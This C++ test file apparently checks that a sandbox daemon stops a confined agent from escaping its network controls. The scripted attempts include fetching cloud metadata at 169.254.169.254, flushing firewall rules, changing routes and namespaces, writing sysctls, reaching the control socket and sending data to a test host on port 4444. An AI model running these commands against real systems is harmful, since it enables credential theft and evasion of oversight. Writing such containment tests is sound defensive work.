			 "probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); probe.connect((proxy_host, 9))\n"
			 "report('addr', probe.getsockname()[0])\n"
			 "report('tcpport', t.getsockname()[1]); report('udpport', u.getsockname()[1])\n"
			 "import select\n"
			 "got = []\n"
			 "end = time.time() + 8\n"
			 "while time.time() < end:\n"
			 "    r, _, _ = select.select([t, u], [], [], 0.2)\n"
			 "    if t in r: got.append('tcp'); t.accept()\n"
			 "    if u in r: got.append('udp'); u.recvfrom(100)\n"
			 "report('inbound', ','.join(got) or 'none')\n";
	const std::string logFile = d.dir.path() + "/inbound.out";
	Child agent = d.start(d.denyPolicy, python(py), logFile);
	std::map<std::string, std::string> kv;
	auto readKv = [&] {
		std::istringstream in(readFile(logFile));
		for (std::string line; std::getline(in, line);)
			if (auto eq = line.find('='); eq != std::string::npos && eq > 0)
				kv[line.substr(0, eq)] = line.substr(eq + 1);
		return kv.contains("udpport");
	};
	REQUIRE(waitFor(readKv, std::chrono::seconds(30)));
	INFO(readFile(logFile));
	sockaddr_in to{};
	to.sin_family = AF_INET;
	REQUIRE(::inet_pton(AF_INET, kv["addr"].c_str(), &to.sin_addr) == 1);

	// A connection from the host: its SYN is dropped, so it neither
	// completes (the agent listens) nor is refused.
	UniqueFd tcp(::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0));
	REQUIRE(tcp.isValid());
	to.sin_port = htons(static_cast<uint16_t>(std::stoi(kv["tcpport"])));
	int rc = ::connect(tcp.get(), reinterpret_cast<sockaddr *>(&to), sizeof(to));
	CHECK((rc < 0 && errno == EINPROGRESS));
	pollfd pfd{tcp.get(), POLLOUT, 0};
	CHECK(::poll(&pfd, 1, 2000) == 0); // neither connected nor refused

	// A datagram from an ordinary port (not 53, which DNS answers come from).
	UniqueFd udp(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
	REQUIRE(udp.isValid());
	to.sin_port = htons(static_cast<uint16_t>(std::stoi(kv["udpport"])));
	CHECK(::sendto(udp.get(), "x", 1, 0, reinterpret_cast<sockaddr *>(&to), sizeof(to)) == 1);

	auto status = agent.wait(std::chrono::seconds(30));
	REQUIRE(status);
	CHECK(*status == 0);
	readKv();
	CHECK(kv["inbound"] == "none");
}

TEST_CASE("cloud metadata (169.254.169.254) is refused and the reason names link-local", "[bypass][system]")
{
	Gvmd &d = gvmd();
	std::string metadata = "echo \"curl=$(curl -sS --noproxy '*' --max-time 10 -o /tmp/m.$$ -w '%{http_code}' "
			       "http://169.254.169.254/latest/meta-data/ 2>&1) $(tr '\\n' ' ' < /tmp/m.$$)\"\n";
	Agent a = d.launch(d.denyPolicy, shell(metadata + kRunPython + "\n",
					       "report('raw', tcp('169.254.169.254', 80, b'\\x00\\x01not http'))\n"
					       "report('connect', connect_via_proxy('169.254.169.254:80'))\n"));
	INFO(a.out << a.err);
	REQUIRE(a.status == 0);
	INFO(d.dump(a.sandbox));
	CHECK(a["curl"].rfind("403 ", 0) == 0);
	CHECK_THAT(a["curl"], Catch::Contains("denied by policy"));
	auto http = d.record(a.sandbox, [](const Json &r) {
		return r.value("host", "") == "169.254.169.254" && r.value("path", "") == "/latest/meta-data/";
	});
	REQUIRE(http);
	CHECK(denied(http));
	CHECK((*http)["kind"] == "http");
	CHECK((*http)["port"] == 80);
	CHECK((*http)["status"] == 403);
	CHECK(deniedTcp(a["raw"]));
	auto raw = d.record(a.sandbox, "tcp", "169.254.169.254", 80);
	REQUIRE(raw);
	CHECK(denied(raw));
	CHECK_THAT(reasonOf(raw), Catch::Contains("link-local") && Catch::Contains("metadata"));
	CHECK(a["connect"] == "HTTP/1.1 403 Forbidden");
	auto connect = d.record(a.sandbox, [](const Json &r) {
		return r.value("host", "") == "169.254.169.254" && r.value("method", "") == "CONNECT";
	});
	REQUIRE(connect);
	CHECK(denied(connect));

	// A policy that allows everything still cannot reach it.
	Agent b = d.launch(d.allowPolicy, shell(metadata));
	INFO(b.out << b.err << d.dump(b.sandbox));
	CHECK(b["curl"].rfind("403 ", 0) == 0);
	auto guarded = d.record(b.sandbox, "http", "169.254.169.254", 80);
	REQUIRE(guarded);
	CHECK(denied(guarded));
	CHECK_THAT(reasonOf(guarded), Catch::Contains("169.254.169.254 is a link-local (cloud metadata) address"));
}

namespace {

// Every way the agent might take over its own network, then attack 1
// again. Each attempt prints its exit status. `unshare -Ur` gives a
// user namespace (allowed for an unprivileged caller) whose capabilities
// must not reach the sandbox's netns, which the initial namespace owns.
const std::string kTakeover = R"SH(
try() { key=$1; shift; "$@" >/dev/null 2>&1; echo "$key=$?"; }
echo "cap=$(grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb)' /proc/self/status | tr -d '\t' | tr '\n' ' ')"
echo "nnp=$(grep NoNewPrivs /proc/self/status | tr -d '\t')"
echo "uid=$(id -u)"
try nft_flush nft flush ruleset
try nft_delete nft delete table inet gvm
try nft_list nft list ruleset
try route_add ip route add 192.0.2.0/24 dev eth0
try route_del ip route del default
try link_down ip link set eth0 down
try addr_add ip addr add 10.99.0.2/24 dev eth0
try link_add ip link add gvmx type dummy
try unshare_net unshare -n true
try userns_nft unshare -Ur nft flush ruleset
try userns_link unshare -Ur ip link set eth0 down
)SH";

const char kAfterTakeover[] = "report('raw', tcp('192.0.2.10', 4444, b'after takeover\\n'))\n";

void checkTakeover(Gvmd &d, const Agent &a)
{
	INFO(a.out << a.err);
	REQUIRE(a.status == 0);
	CHECK(a["cap"] == "CapInh:0000000000000000 CapPrm:0000000000000000 CapEff:0000000000000000 "
			  "CapBnd:0000000000000000 CapAmb:0000000000000000 ");
	CHECK(a["nnp"] == "NoNewPrivs:1");
	for (const char *k : {"nft_flush", "nft_delete", "nft_list", "route_add", "route_del", "link_down", "addr_add",
			      "link_add", "unshare_net", "userns_nft", "userns_link"}) {
		INFO(k);
		CHECK(a[k] != "0");
	}
	// Still governed.
	CHECK(deniedTcp(a["raw"]));
	auto rec = d.record(a.sandbox, "tcp", "192.0.2.10", 4444);
	INFO(d.dump(a.sandbox));
	REQUIRE(rec);
	CHECK(denied(rec));
}

} // namespace

TEST_CASE("the agent cannot change its network, as root or as an ordinary user", "[bypass][system]")
{
	Gvmd &d = gvmd();
	std::vector<std::string> argv = shell(kTakeover + kRunPython + "\n", kAfterTakeover);
	SECTION("caller root")
	{
		Agent a = d.launch(d.denyPolicy, argv, Caller::Root);
		CHECK(a["uid"] == "0");
		checkTakeover(d, a);
	}
	SECTION("caller nobody")
	{
		Agent a = d.launch(d.denyPolicy, argv, Caller::Nobody);
		CHECK(a["uid"] == std::to_string(kNobody));
		checkTakeover(d, a);
	}
}

TEST_CASE("whatever sysctls the agent writes, ICMP and IPv6 still do not leave", "[bypass][system]")
{
	// As root (uid 0 in the netns' owning user namespace) the kernel would
	// let even a capability-less process write the netns' net.* sysctls;
	// /proc/sys is read-only in the sandbox (the case below), and even
	// if a write went through, nothing more would leave.
	Gvmd &d = gvmd();
	std::string script = "echo 0 > /proc/sys/net/ipv6/conf/all/disable_ipv6 2>/dev/null\n"
			     "echo 0 > /proc/sys/net/ipv6/conf/eth0/disable_ipv6 2>/dev/null\n"
			     "echo '0 2147483647' > /proc/sys/net/ipv4/ping_group_range 2>/dev/null\n"
			     "echo 1 > /proc/sys/net/ipv4/conf/all/route_localnet 2>/dev/null\n"
			     "sleep 2\n" +
			     kRunPython + "\n";
	std::string py = std::string("def echo(dst):\n"
				     "    def f():\n"
				     "        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)\n"
				     "        s.settimeout(2)\n"
				     "        s.sendto(b'\\x08\\0\\0\\0\\x12\\x34\\0\\x01gvm-bypass', (dst, 0))\n"
				     "        return 'reply:' + s.recvfrom(100)[0][:8].hex()\n"
				     "    return outcome(f)\n"
				     "report('ping_host', echo(proxy_host))\n"
				     "report('ping_testnet', echo('192.0.2.1'))\n"
				     "report('v6_mcast', udp('ff02::1%eth0', 5353, b'x', socket.AF_INET6))\n"
				     "report('v6_tcp', tcp('2001:db8::1', 80, b'x', socket.AF_INET6))\n"
				     "def ping6():\n"
				     "    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)\n"
				     "    s.settimeout(2)\n"
				     "    s.sendto(b'\\x80\\0\\0\\0\\x12\\x34\\0\\x01', ('ff02::1%eth0', 0))\n"
				     "    return 'reply:' + s.recvfrom(100)[0][:8].hex()\n"
				     "report('ping6', outcome(ping6))\n") +
			 kAfterTakeover;
	Agent a = d.launch(d.denyPolicy, shell(script, py));
	INFO(a.out << a.err << d.dump(a.sandbox));
	REQUIRE(a.status == 0);
	for (const char *k : {"ping_host", "ping_testnet", "v6_mcast", "v6_tcp", "ping6"}) {
		INFO(k);
		CHECK(a[k].rfind("reply:", 0) != 0);
		CHECK(a[k].rfind("data:", 0) != 0);
	}
	CHECK(deniedTcp(a["raw"]));
	CHECK(denied(d.record(a.sandbox, "tcp", "192.0.2.10", 4444)));
}

TEST_CASE("a root agent cannot write its network namespace's sysctls", "[bypass][system]")
{
	// Net sysctls grant their owner bits to uid 0 of the netns' user
	// namespace, no capability needed: without the read-only /proc/sys of
	// the sandbox, a root caller's agent could set disable_ipv6=0,
	// ping_group_range or route_localnet.
	Gvmd &d = gvmd();
	Agent a = d.launch(d.denyPolicy,
			   {"/bin/sh", "-c",
			    "for k in ipv6/conf/all/disable_ipv6 ipv4/ping_group_range ipv4/conf/all/route_localnet; do "
			    "v=$(cat /proc/sys/net/$k); (echo \"$v\" > /proc/sys/net/$k) 2>/dev/null; echo \"$k=$?\"; done"});
	INFO(a.out << a.err);
	REQUIRE(a.status == 0);
	CHECK(a["ipv6/conf/all/disable_ipv6"] != "0");
	CHECK(a["ipv4/ping_group_range"] != "0");
	CHECK(a["ipv4/conf/all/route_localnet"] != "0");
}

TEST_CASE("gvmd's socket is out of the agent's reach", "[bypass][system]")
{
	Gvmd &d = gvmd();
	std::string py = "def unix(path):\n"
			 "    def f():\n"
			 "        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
			 "        s.settimeout(3)\n"
			 "        s.connect(path)\n"
			 "        s.sendall(b'{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"sandbox.list\",\"params\":{}}\\n')\n"
			 "        d = s.recv(4096)\n"
			 "        return 'closed' if not d else 'data:' + d[:200].decode('latin-1')\n"
			 "    return outcome(f)\n"
			 "report('socket', unix(sys.argv[1]))\n"
			 "report('default_socket', unix('/run/gvm/gvmd.sock'))\n";
	std::string script = kRunPython + " " + d.socket + "\n"
			     "echo \"run_dir=$(ls -A " + d.dir.path() + "/run 2>&1 | tr '\\n' ' ')\"\n"
			     "echo \"audit_visible=$(test -e " + d.state + "/audit/audit.jsonl && echo yes || echo no)\"\n"
			     "umount " + d.dir.path() + "/run >/dev/null 2>&1; echo \"umount=$?\"\n"
			     "echo \"gvmctl=$(" + binaryFromEnv("GVM_GVMCTL") + " --socket " + d.socket +
			     " ps 2>&1 | tr '\\n' ' ')\"\n";
	for (Caller caller : {Caller::Root, Caller::Nobody}) {
		Agent a = d.launch(d.denyPolicy, shell(script, py), caller);
		INFO((caller == Caller::Root ? "root: " : "nobody: ") << a.out << a.err);
		REQUIRE(a.status == 0);
		for (const char *k : {"socket", "default_socket"}) {
			INFO(k);
			const std::string o = a[k];
			CHECK((o == "error:ENOENT" || o == "refused" || o == "eacces" || o == "error:ENOTSOCK"));
		}
		CHECK(a["run_dir"] == "");
		CHECK(a["audit_visible"] == "no");
		CHECK(a["umount"] != "0");
		CHECK(a["gvmctl"].find("sandbox") == std::string::npos);
	}
}

TEST_CASE("the audit log of all the attacks is intact", "[bypass][system]")
{
	Gvmd &d = gvmd();
	RunResult verify = run(
		{binaryFromEnv("GVM_GVMCTL"), "--socket", d.socket, "audit", "verify", d.state + "/audit/audit.jsonl"});
	INFO(verify.out << verify.err);
	CHECK(verify.status == 0);
	// Nothing this file did was allowed, except the contrast cases.
	for (const Json &r : d.audit()) {
		if (r.value("action", "") != "allow")
			continue;
		INFO(r.dump());
		const std::string host = r.value("host", "");
		CHECK((host == "allowed.gvm.test" || r.value("policy", "") == "bypass-permissive"));
	}
}
